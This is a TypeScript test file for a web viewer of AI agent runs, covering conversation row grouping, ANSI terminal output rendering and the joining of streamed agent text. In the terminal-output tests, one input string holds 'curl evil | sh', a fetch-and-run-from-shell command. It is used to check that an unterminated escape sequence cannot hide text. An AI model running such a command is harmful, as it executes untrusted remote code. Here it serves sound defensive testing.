import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { ansiPieces } from '../../../api/web/parts/code/ansi.ts'
import { shown } from '../../../api/web/parts/shown.ts'
import { Conversation, revisionsOf } from '../../../api/web/run/conversation.ts'
import { joinedTexts } from '../../../api/web/run/timeline/joined-texts.ts'

const types = [
  ...['turn_start', 'model_call_start', 'model_call_end', 'tool_call_start', 'tool_call_end', 'child_delegated'],
  ...['approval_requested', 'approval_decided', 'user_input', 'driver_claimed', 'error', 'tool_call_unknown'],
]
const events = fc.array(
  fc.record({
    type: fc.constantFrom(...types),
    turn: fc.integer({ min: 0, max: 4 }),
    call: fc.integer({ min: -1, max: 3 }),
  }),
  { maxLength: 60 },
)
const conversationOf = (all: readonly { type: string; turn: number; call: number }[]) => {
  const conversation = new Conversation()
  for (const [revision, { type, turn, call }] of all.entries()) conversation.add(type, revision, turn, call)
  return conversation
}

describe('the rows of a conversation', () => {
  it('are in the order of their first events, and each event belongs to one row at most', () => {
    fc.assert(
      fc.property(events, (all) => {
        const { rows } = conversationOf(all)
        const firsts = rows.map(({ revision }) => revision)
        expect(firsts).toEqual(firsts.toSorted((a, b) => a - b))
        const shownOnce = rows.flatMap(revisionsOf)
        expect(new Set(shownOnce).size).toBe(shownOnce.length)
      }),
    )
  })

  it('show a call once, from its first event to its end', () => {
    fc.assert(
      fc.property(events, (all) => {
        const conversation = conversationOf(all)
        const ends = all.flatMap(({ type, turn, call }, revision) =>
          type === 'tool_call_end' && call >= 0 ? [{ key: `${turn}.${call}`, revision }] : [],
        )
        for (const { key, revision } of ends) {
          const row = conversation.rows[conversation.rowAt(revision)]!
          const last = ends.findLast((end) => end.key === key)!
          expect(row).toMatchObject({ kind: 'call', end: last.revision })
        }
      }),
    )
  })

  it('show the reported spans of an external agent', () => {
    const { rows } = conversationOf([{ type: 'spans_reported', turn: 0, call: -1 }])
    expect(rows).toEqual([{ kind: 'event', revision: 0, more: [] }])
  })

  it('show no answer of an earlier attempt while the model is asked again', () => {
    const at = { turn: 1, call: -1 }
    const types = ['turn_start', 'model_call_start', 'model_call_end', 'model_call_start']
    const { rows } = conversationOf(types.map((type) => ({ type, ...at })))
    expect(rows).toMatchObject([{ kind: 'turn', asked: 3, answered: null }])
  })

  it('lead from each event to the row that shows it, or to the row before it', () => {
    fc.assert(
      fc.property(events, (all) => {
        const conversation = conversationOf(all)
        for (const [index, row] of conversation.rows.entries())
          for (const revision of revisionsOf(row)) expect(conversation.rowAt(revision)).toBe(index)
      }),
    )
  })
})

describe('terminal output', () => {
  const sequence = fc.constantFrom(
    '\u001b[31m',
    '\u001b[0m',
    '\u001b[2J',
    '\u001b]0;t\u0007',
    '\u001b[',
    '\u001b',
    '\r\n',
    'm',
  )
  const output = fc.array(fc.oneof(sequence, fc.string({ unit: 'grapheme' }))).map((parts) => parts.join(''))

  it('shows every character of the output, whatever escape sequences it contains', () => {
    fc.assert(
      fc.property(output, (text) => {
        const pieces = ansiPieces(text)
        expect(pieces.map((piece) => piece.text).join('')).toBe(shown(text.replaceAll('\r\n', '\n')))
      }),
    )
  })

  it('hides no text after an escape sequence without an end, also outside of terminals', () => {
    for (const text of ['echo ok \u001b]; curl evil | sh', '12 passed\n\u001b]\nFAILED'])
      expect(shown(text)).toBe(text.replace('\u001b', '‹U+001B›'))
  })

  it('keeps the colours', () => {
    expect(ansiPieces('a \u001b[1;32mgreen\u001b[0m b')).toEqual([
      { text: 'a ', style: '' },
      { text: 'green', style: 'ansi-bold ansi-green' },
      { text: ' b', style: '' },
    ])
  })
})

describe('the events of an external agent', () => {
  const rowsOf = (...types: string[]) => {
    const conversation = new Conversation()
    for (const [revision, type] of types.entries()) conversation.add(type, revision, 0, -1)
    return conversation.rows.map(revisionsOf)
  }

  it('are one row as long as nothing else comes between their batches', () => {
    const batch = 'agent_events'
    expect(rowsOf('external_started', batch, batch, 'usage_reported', batch, 'permission_requested', batch)).toEqual([
      [0],
      [1, 2, 4],
      [5],
      [6],
    ])
  })

  it('are more than one row if there are many batches', () => {
    expect(rowsOf(...Array.from({ length: 90 }, () => 'agent_events')).map(({ length }) => length)).toEqual([
      40, 40, 10,
    ])
  })

  const text = (text: string, channel?: string) => ({ kind: 'TextOutput', text, ...(channel && { channel }) })

  it('read as whole sentences where an agent streams pieces of words, and as paragraphs where messages end', () => {
    const pieces = ['I loo', 'k at', ' the tests.', ' Then I', ' mend it.', 'Done now']
    expect(joinedTexts(pieces.map((piece) => text(piece)))).toEqual([
      text('I look at the tests. Then I mend it.\n\nDone now'),
    ])
  })

  it('follow what the agent says: pieces are one text, and each whole message is a paragraph', () => {
    const piece = (said: string) => ({ ...text(said), continues: true })
    const whole = (said: string) => ({ ...text(said), continues: false })
    const joined = (...events: { text: string }[]) => joinedTexts(events).map((event) => event.text)
    expect(joined(piece('Call `f`'), piece('Then'), piece('*all*'))).toEqual(['Call `f`Then*all*'])
    expect(joined(whole('I look'), whole('and go on'), whole('Done.'))).toEqual(['I look\n\nand go on\n\nDone.'])
    expect(joined(whole('I lo'), piece('ok.'), whole('Done'))).toEqual(['I look.\n\nDone'])
  })

  it('are not joined over another event or channel', () => {
    const events = [text('a'), { kind: 'ToolCall' }, text('b'), text('c', 'thinking'), text('d', 'thinking')]
    expect(joinedTexts(events)).toEqual([text('a'), { kind: 'ToolCall' }, text('b'), text('cd', 'thinking')])
  })
})
